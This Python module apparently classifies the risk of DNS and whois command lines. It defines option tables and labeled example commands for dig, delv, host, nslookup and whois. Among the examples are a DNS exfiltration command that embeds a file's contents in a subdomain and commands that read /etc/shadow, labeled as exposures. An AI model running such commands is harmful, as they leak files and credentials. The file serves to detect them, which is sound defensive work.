from __future__ import annotations

from riskclass.model.tables import flags, takes, tool

DIG = tool(
    "dig kdig",
    "NAME...",
    about="ask name servers",
    input="whole",
    docs="man:dig(1)",
    does="net.query NAME",
    options=[
        takes("-f", reads="VALUE|-"),
        takes("-b -c -k -p -q -t -x -y -E -G"),
        flags("-4 -6 -d -h -i -m -r -u -v -V --help --version"),
    ],
    examples=r"""
        dig example.com                                   #=> read_only
        dig +short -t MX example.com @1.1.1.1             #=> read_only
        dig -x 10.0.0.1 +noall +answer                    #=> read_only
        dig "x.$(cat f).example.com"                      #=> exposure net.upload
        dig -f /etc/shadow                                #=> exposure secret.read
        dig -f names                                      #=> read_only
    """,
)

DELV = tool(
    "delv",
    "NAME...",
    about="ask name servers and check the answers",
    docs="man:delv(1)",
    does="net.query NAME",
    options=[
        takes("-a", reads="VALUE", because="shows a line that is no key"),
        takes("-b -c -d -p -q -t -x"),
        flags("-4 -6 -h -i -m -v"),
    ],
    examples=r"""
        delv +short -t A example.com @1.1.1.1             #=> read_only
        delv -a /etc/shadow example.com                   #=> exposure secret.read
    """,
)

HOST = tool(
    "host khost",
    "NAME SERVER",
    about="ask name servers",
    input="whole",
    docs="man:host(1)",
    does="net.query NAME",
    options=[takes("-c -N -t -W -R -m -p"), flags("-a -A -C -d -i -l -r -s -T -U -v -V -w -4 -6 -h")],
    examples=r"""
        host -t MX example.com                            #=> read_only
        host -l example.com ns1                           #=> read_only
    """,
)

NSLOOKUP = tool(
    "nslookup",
    "NAME SERVER",
    about="ask name servers",
    input="whole",
    docs="man:nslookup(1)",
    style="single",
    does="net.query NAME",
    options=[flags("-*")],
    examples=r"""
        nslookup example.com                              #=> read_only
        nslookup -query=MX -timeout=10 example.com 1.1.1.1    #=> read_only
    """,
)

WHOIS = tool(
    "whois",
    "NAME...",
    about="ask who holds a name or an address",
    docs="man:whois(1)",
    does="net.query NAME",
    options=[
        takes("-h/--host -p/--port -i -T -s -g -t -v -q"),
        flags("-I -H -a -b -B -c -d -F -G -K -l -L -m -M -r -R -x --verbose --no-recursion --help --version"),
    ],
    examples=r"""
        whois example.com                                 #=> read_only
        whois -h whois.example.com -p 43 example.com      #=> read_only
    """,
)

TOOLS = [DIG, DELV, HOST, NSLOOKUP, WHOIS]
